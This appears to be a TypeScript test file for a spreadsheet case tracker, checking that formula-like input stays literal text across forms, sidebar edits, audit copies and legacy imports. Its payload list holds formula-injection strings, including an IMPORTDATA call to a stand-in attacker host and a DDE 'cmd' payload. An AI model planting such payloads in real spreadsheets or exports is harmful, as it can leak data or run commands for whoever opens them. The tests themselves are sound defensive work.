/**
 * Threat model, formula forms: text an editor types anywhere Casebook takes it (the New case form, the
 * case sidebar, a sheet edit Casebook audits, a legacy import) starting with = + - @, TAB, CR, LF or NUL,
 * after leading spaces, or in full-width forms, is stored and copied as literal text. After the owner's run
 * (which moves pending audit entries into the log) no cell Casebook wrote holds a formula, and the text
 * reads back as typed (or is refused with a clear error and nothing written).
 */
import { callServerFunction, restoreWorkspace, snapshotWorkspace } from '../../emulator';
import { automatedTracker, newCase, rowOf, typeInto } from '../support/automation-tracker';
import { compactFixture } from '../support/fault-sweep';
import { attachTracker, FIELDS, OPS, type Tracker } from '../support/intake-tracker';
import { auditEntries, formulaCells, nextHourlyRun } from './support/record';

/** Every leading character Sheets or a CSV consumer may read as a formula, plain and disguised. */
const FORMULA_FORMS: readonly string[] = [
  '=IMPORTDATA("https://evil.example/x")',
  '+HYPERLINK("https://evil.example","click")',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '   =1+1',
  '  +1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];

/** Free-text fields of a case (schema keys) a person types into. */
const TEXT_FIELDS = ['shopName', 'legalGround', 'illegalityExplanation', 'summary'] as const;
const EDIT_FIELDS = ['summary', 'resolution', 'overturnReason', 'shopName'] as const;
const HEADER: Record<string, string> = {
  shopName: 'Shop name',
  legalGround: 'Legal ground',
  illegalityExplanation: 'Illegality explanation',
  summary: 'Summary',
  resolution: 'Resolution',
  overturnReason: 'Overturn reason',
};

/** The text as stored: what was typed, or what the server normalised it to (trimmed, NUL removed). */
function literalVariants(form: string): string[] {
  const stripped = form.split('\u0000').join('');
  return [form, form.trim(), stripped, stripped.trim()];
}

function headerOf(ctx: Tracker, key: string): string {
  const header = HEADER[key]!;
  if (ctx.column(header) < 1) throw new Error(`no column ${header}`);
  return header;
}

// One tracker built once; every test starts from a fresh restore of it, so one failure cannot cascade.
let snapshot = '';
let spreadsheetId = '';
let ctx: Tracker;
beforeAll(() => {
  const built = automatedTracker();
  compactFixture(built.ss, 40);
  snapshot = snapshotWorkspace(built.ws);
  spreadsheetId = built.spreadsheetId;
});
beforeEach(() => {
  ctx = attachTracker(restoreWorkspace(snapshot), spreadsheetId);
});

describe.each(FORMULA_FORMS.map((form) => [JSON.stringify(form), form]))('the form %s', (_, form) => {
  test('typed into every text field of the New case form stays literal (or is refused clearly)', () => {
    const fields: Record<string, string> = { ...FIELDS, owner: OPS };
    for (const key of TEXT_FIELDS) fields[key] = form;
    const id = `formula-${Buffer.from(form).toString('hex')}`.slice(0, 60);
    const reply = callServerFunction(ctx.ws, ctx.session, 'submitCase', [{ submissionId: id, fields }]);
    expect(reply.ok).toBe(true);
    const value = reply.ok ? (reply.value as { ok: boolean; caseId?: string; errors?: object }) : null;
    if (value?.ok) {
      const row = rowOf(ctx, value.caseId!);
      for (const key of TEXT_FIELDS) {
        const range = ctx.cases.getRange(row, ctx.column(headerOf(ctx, key)));
        expect(range.getFormula()).toBe('');
        expect(literalVariants(form)).toContain(range.getValue());
      }
    } else {
      expect(value).toMatchObject({ ok: false, errors: expect.any(Object) });
      expect(Object.keys(value?.errors ?? {}).length).toBeGreaterThan(0);
    }
    nextHourlyRun(ctx);
    expect(formulaCells(ctx)).toEqual([]);
  });

  test('saved from the case sidebar into every editable text field stays literal, in Cases and the Audit log', () => {
    const { caseId } = newCase(ctx);
    const view = callServerFunction(ctx.ws, ctx.session, 'getCaseView', [{ caseId }]);
    const version = view.ok ? (view.value as { view: { version: string } }).view.version : '';
    const changes = Object.fromEntries(EDIT_FIELDS.map((key) => [key, form]));
    const reply = callServerFunction(ctx.ws, ctx.session, 'updateCase', [{ caseId, version, changes }]);
    expect(reply.ok).toBe(true);
    const saved = reply.ok && (reply.value as { ok: boolean }).ok;
    nextHourlyRun(ctx);
    expect(formulaCells(ctx)).toEqual([]);
    if (saved) {
      const row = rowOf(ctx, caseId);
      for (const key of EDIT_FIELDS)
        expect(literalVariants(form)).toContain(
          ctx.cases.getRange(row, ctx.column(headerOf(ctx, key))).getValue(),
        );
      const edits = auditEntries(ctx).filter((e) => e.caseId === caseId && e.action === 'Edit');
      expect(edits.map((e) => e.newValue).every((v) => literalVariants(form).includes(v))).toBe(true);
      expect(edits.length).toBe(EDIT_FIELDS.length);
    }
  });

  test('typed into a Cases cell by a person: the audit copy of it is literal', () => {
    const { caseId } = newCase(ctx);
    const row = rowOf(ctx, caseId);
    // A person may put a formula in their own cell; Casebook must not copy it as one anywhere.
    typeInto(ctx, 'Resolution', row, `'${form}`);
    typeInto(ctx, 'Resolution', row, '');
    nextHourlyRun(ctx);
    expect(formulaCells(ctx)).toEqual([]);
  });
});

test('a legacy import of formula-form text keeps every form literal', () => {
  const legacy = ctx.ss.insertSheet('Old formulas');
  const headers = [
    'Ticket',
    'Country',
    'Seller',
    'Datum',
    'Violation',
    'Penalty',
    'Source',
    'Automation',
    'Prio',
    'Description',
    'Shop',
    'Status',
  ];
  legacy.getRange(1, 1, FORMULA_FORMS.length + 1, headers.length).setNumberFormat('@');
  legacy.getRange(1, 1, 1, headers.length).setValues([headers]);
  legacy
    .getRange(2, 1, FORMULA_FORMS.length, headers.length)
    .setValues(
      FORMULA_FORMS.map((form, i) => [
        `T-${i}`,
        'DE',
        `S-77${i}`,
        '02/11/2026',
        'counterfeit',
        'ban',
        'manual',
        'Not automated',
        'P3',
        form,
        form,
        'open',
      ]),
    );
  const proposal = callServerFunction(ctx.ws, ctx.session, 'proposeLegacyImport', ['Old formulas']);
  if (!proposal.ok) throw new Error(proposal.error.message);
  const columns = (proposal.value as { columns: { column: number; header: string; field: string | null }[] })
    .columns;
  const mapping = columns.map((c) => ({
    column: c.column,
    field: c.header === 'Shop' ? 'shopName' : c.field,
  }));
  const reply = callServerFunction(ctx.ws, ctx.session, 'runLegacyImport', [
    { tab: 'Old formulas', mapping },
  ]);
  if (!reply.ok) throw new Error(reply.error.message);
  expect((reply.value as { counts: Record<string, number> }).counts.imported).toBe(FORMULA_FORMS.length);
  nextHourlyRun(ctx);
  expect(formulaCells(ctx)).toEqual([]);
  const summaries = ctx.cases
    .getRange(2, ctx.column('Summary'), ctx.cases.getLastRow() - 1, 1)
    .getValues()
    .map((r) => r[0]);
  for (const form of FORMULA_FORMS)
    expect(summaries.some((s) => literalVariants(form).includes(s as string))).toBe(true);
});
